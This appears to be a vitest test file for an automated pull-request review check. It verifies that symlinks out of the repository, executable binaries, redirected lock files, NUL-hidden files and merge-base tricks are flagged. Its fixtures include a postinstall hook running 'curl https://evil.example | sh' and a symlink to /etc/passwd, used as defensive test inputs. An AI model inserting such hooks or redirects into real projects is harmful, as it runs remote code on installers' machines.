import { afterAll, beforeAll, expect, it } from "vitest";
import { finish, numbers, turn } from "../e2e/conformance-fixture.ts";
import { type PullOfCase, type SharedApp, startSharedApp } from "../e2e/shared-app.ts";
import type { Files } from "../support/github-double/people.ts";

const long = process.env.HUNKWISE_LONG === "1";

const binary = (seed: number) => Buffer.from([0x50, 0x4b, 3, 4, 0, 0, seed, 0xff, 0xfe, 0, seed]);
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
const text = (name: string) => Array.from({ length: 20 }, (_, at) => `${name}: ${at}\n`).join("");

/** A lock file with a package from this address. */
const locked = (resolved: string) =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: { "node_modules/left-pad": { version: "1.3.0", resolved } },
  });
const registry = "https://npm.example/left-pad/-";

const base: Files = {
  "package-lock.json": locked(`${registry}/left-pad-1.3.0.tgz`),
  ".github/hunkwise.yml": "check:\n  fail: true\n",
  "docs/x.yml": text("run"),
  "docs/moved.md": text("prose"),
  "src/auth.js": text("check"),
  "gradle/wrapper/gradle-wrapper.jar": binary(1),
  "docs/logo.png": binary(2),
  "lib/module": { mode: "160000", data: "1".repeat(40) },
  "script.sh": text("echo"),
  ".gitattributes": "package.json linguist-generated\n",
  "package.json": '{\n  "name": "shop"\n}\n',
};

/** What the model was asked since a test began. */
const asked: string[] = [];
let shared: SharedApp;
beforeAll(async () => {
  shared = await startSharedApp({
    everyRole: ({ messages }) => {
      asked.push(JSON.stringify(messages));
      return turn(finish);
    },
  });
});
afterAll(() => shared[Symbol.asyncDispose]());

async function concluded(pull: PullOfCase) {
  await pull.deliver("opened");
  await pull.concluded();
  const { conclusion, output } = pull.check() ?? {};
  return { conclusion, output: JSON.stringify(output) };
}

function review(files: Files) {
  asked.splice(0);
  return concluded(shared.addRepository(base).open(files));
}

it("changes-without-lines: The check names them and is not green, and is as red as for findings if they are dangerous", async () => {
  const attacks: [what: string, conclusion: string, files: Files][] = [
    [
      "`src/auth.js`: symbolic link out of the repository",
      "failure",
      { "src/auth.js": { mode: "120000", data: "../../etc/passwd" } },
    ],
    [
      "`src/auth.js`: symbolic link to another place",
      "neutral",
      { "src/auth.js": { mode: "120000", data: "../docs/moved.md" } },
    ],
    [
      "`lib/module`: submodule at another commit",
      "neutral",
      { "lib/module": { mode: "160000", data: "2".repeat(40) } },
    ],
    [
      "`gradle/wrapper/gradle-wrapper.jar`: binary that runs",
      "failure",
      { "gradle/wrapper/gradle-wrapper.jar": binary(3) },
    ],
    [
      "finding about a lock file",
      "failure",
      { "package-lock.json": locked("https://evil.example/left-pad/-/left-pad-1.3.0.tgz") },
    ],
    ["`tool`: binary that runs", "failure", { tool: { mode: "100755", data: binary(4) } }],
    ["`docs/logo.png`: binary data", "neutral", { "docs/logo.png": binary(5) }],
    ["`.github/CODEOWNERS`: empty file", "neutral", { ".github/CODEOWNERS": "" }],
  ];
  const seen = await Promise.all(attacks.map(([, , files]) => review(files)));
  expect(seen.map(({ conclusion }) => conclusion)).toEqual(attacks.map(([, conclusion]) => conclusion));
  for (const [at, [what]] of attacks.entries()) expect(seen[at]?.output).toContain(what);
});

it("Changes without lines that do nothing by themselves are green", async () => {
  const { conclusion } = await review({
    ...{ "docs/moved.md": null, "docs/moved-on.md": text("prose"), "docs/icon.png": png },
    "package-lock.json": locked(`${registry}/left-pad-1.3.1.tgz`),
    ...{ "script.sh": { mode: "100755", data: text("echo") }, "lib/module": null },
  });
  expect(conclusion).toBe("success");
});

it.each([
  ["unedited", text("run")],
  ["edited", `${text("run")}run: 20\n`],
])("changes-without-lines: A text that becomes a workflow is read whole, %s", async (_, now) => {
  const files = { "docs/x.yml": null, ".github/workflows/ci.yml": now };
  expect(await review(files)).toMatchObject({ conclusion: "success" });
  for (const line of now.trimEnd().split("\n")) expect(asked.at(-1)).toContain(line);
});

it.runIf(long)(
  "generated-in-effect: A generated file that runs by itself is read, and an unread archive keeps the check from green",
  async () => {
    const script =
      '{\n  "name": "shop",\n  "scripts": { "postinstall": "curl https://evil.example | sh" }\n}\n';
    expect(await review({ "package.json": script })).toMatchObject({ conclusion: "success" });
    expect(asked.join("\n")).toContain("postinstall");
    const { conclusion, output } = await review({
      "package-lock.json": locked("file:assets/left-pad.bin.tgz"),
      "assets/left-pad.bin.tgz": binary(6),
    });
    expect(conclusion).toBe("failure");
    expect(output).toContain("finding about a lock file");
  },
);

const failing = { "a.js": numbers(3), ".github/hunkwise.yml": "check: { fail: true }\n" };

// git treats a file with a NUL in its first 8,000 bytes as binary, and no diff shows it.
it.each([
  ["with a NUL in a comment of letters beyond ASCII", `/*\0${"é".repeat(4_100)}*/\nevil();\n`],
  ["with a NUL in a comment of control characters", `/*\0${"\u0001".repeat(7_000)}*/\nevil();\n`],
])("text-as-binary: A file %s is not passed unread", async (_, evil) => {
  const pull = shared.addRepository(failing).open({ "a.js": evil }, { author: "mona" });
  const { conclusion, output } = await concluded(pull);
  expect(conclusion).toBe("failure");
  expect(output).toMatch(/^{"title":"Incomplete review/);
  expect(output).toContain("1 file was not read (text with NUL bytes)");
});

it("merge-bases: A merge that undoes a fix of the base is not passed, whichever parent git compares with", async () => {
  const of = shared.addRepository(failing);
  const { git, defaultBranch } = of.repository;
  const { "a.js": broken } = failing;
  const commit = (branch: string, parents: string[], files: Record<string, string>) =>
    git.importCommits([{ branch, parents, files: Object.entries(files) }]);
  const fixed = { "a.js": numbers(3, { 2: "const n2 = checked(2);" }) };
  commit("docs", [defaultBranch], { "b.md": "B\n" });
  commit("fix", [defaultBranch], fixed);
  commit("merged", ["docs", "fix"], fixed);
  git.git("branch", "--force", defaultBranch, "merged");
  // Both have the same merge bases as before, and the files of one of them. The order of the parents decides which one git uses.
  for (const [branch, parents] of [
    ["mona-1", ["docs", "fix"]],
    ["mona-2", ["fix", "docs"]],
  ] as const) {
    commit(branch, [...parents], { "a.js": broken, "b.md": "B\n" });
    const { conclusion, output } = await concluded(of.openBranch(branch, { author: "mona" }));
    expect(conclusion).toBe("failure");
    expect(output).toContain("the branches have 2 merge bases");
  }

  // The check's advice works: then there is one merge base, and the diff shows what the merge would undo.
  commit("mona-1", ["mona-1", defaultBranch], { "a.js": broken });
  const { conclusion, output } = await concluded(of.openBranch("mona-1", { author: "mona" }));
  expect(conclusion).toBe("success");
  expect(output).not.toContain("merge bases");
});
